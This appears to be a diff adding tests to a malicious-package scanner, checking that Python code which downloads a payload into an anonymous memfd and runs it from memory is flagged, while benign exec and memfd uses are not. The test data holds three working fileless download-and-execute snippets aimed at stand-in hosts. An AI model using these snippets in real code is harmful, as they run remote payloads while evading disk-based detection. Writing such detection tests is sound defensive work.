@@ -58,3 +58,47 @@ def test_a_spawned_argv_is_found_with_the_prefilter_too(
 )
 def test_a_spawned_program_given_data_that_is_no_command_is_not_a_threat(source: str) -> None:
     assert "CPL-THR-001" not in danger(source)
+
+
+#: blind16 (tune b16-dr-memfd-fexecve): a download written to an anonymous memfd and run
+#: from memory, by its /proc/self/fd path or by fexecve: no file on disk is named.
+FROM_MEMORY = [
+    "import os, urllib.request\n"
+    "data = urllib.request.urlopen('http://198.51.100.140/k').read()\n"
+    "fd = os.memfd_create('k', 0)\nos.write(fd, data)\n"
+    "os.execve('/proc/self/fd/%d' % fd, ['k'], dict(os.environ))\n",
+    "import os, requests\nfd = os.memfd_create('x')\n"
+    "os.write(fd, requests.get('https://x.example/a').content)\n"
+    "os.execv(f'/proc/self/fd/{fd}', ['x'])\n",
+    "import os, urllib.request\nfd = os.memfd_create('k', 0)\n"
+    "os.write(fd, urllib.request.urlopen('http://198.51.100.140/k').read())\n"
+    "os.fexecve(fd, ['k'], {})\n",
+]
+
+
+@pytest.mark.parametrize("source", FROM_MEMORY)
+def test_a_download_written_to_a_memfd_and_run_from_it_is_run_downloaded_data(source: str) -> None:
+    assert "CPL-THR-002" in danger(source)
+
+
+@pytest.mark.parametrize("source", FROM_MEMORY)
+def test_a_download_run_from_a_memfd_is_found_with_the_prefilter_too(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the interpreter re-executed with its own arguments (a reloader)
+        "import os, sys\nos.execv(sys.executable, [sys.executable] + sys.argv)\n",
+        # a memfd holding data the program built, never run; one run that holds the
+        # package's own bytes
+        "import os\nfd = os.memfd_create('buf')\nos.write(fd, b'x' * 4096)\n",
+        "import os\nfd = os.memfd_create('t')\nos.write(fd, open('tool', 'rb').read())\n"
+        "os.execv('/proc/self/fd/%d' % fd, ['t'])\n",
+    ],
+)
+def test_a_memfd_or_an_exec_without_a_download_is_not_a_download_run(source: str) -> None:
+    assert "CPL-THR-002" not in danger(source)
